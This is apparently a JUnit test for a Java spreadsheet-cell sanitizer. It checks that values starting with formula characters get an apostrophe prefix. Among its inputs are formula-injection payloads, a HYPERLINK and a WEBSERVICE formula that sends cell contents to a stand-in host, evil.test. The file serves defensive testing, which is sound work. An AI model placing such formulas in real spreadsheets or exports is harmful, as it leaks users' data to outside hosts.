package io.venn.service.view;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class SpreadsheetSafeTest {
  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '"',
      value = {
        "=HYPERLINK(\"http://evil.test\",\"click\") | '=HYPERLINK(\"http://evil.test\",\"click\")",
        "=WEBSERVICE(\"http://evil.test/?\"&A1)     | '=WEBSERVICE(\"http://evil.test/?\"&A1)",
        "+49 30 1234567                             | '+49 30 1234567",
        "-2+3                                       | '-2+3",
        "@SUM(A1:A2)                                | '@SUM(A1:A2)",
        "Siemens AG                                 | Siemens AG",
        "acme.co.uk                                 | acme.co.uk",
        "Müller & Söhne GmbH                        | Müller & Söhne GmbH",
      })
  void cell_prefixesFormulaStarters(String raw, String expected) {
    assertThat(SpreadsheetSafe.cell(raw.strip())).isEqualTo(expected.strip());
  }

  @ParameterizedTest
  @CsvSource({"'\t=1+1', '''\t=1+1'", "'\r=1+1', '''\r=1+1'"})
  void cell_prefixesTabAndCarriageReturn(String raw, String expected) {
    assertThat(SpreadsheetSafe.cell(raw)).isEqualTo(expected);
  }

  @org.junit.jupiter.api.Test
  void cell_nullAndEmptyUnchanged() {
    assertThat(SpreadsheetSafe.cell(null)).isNull();
    assertThat(SpreadsheetSafe.cell("")).isEmpty();
  }
}
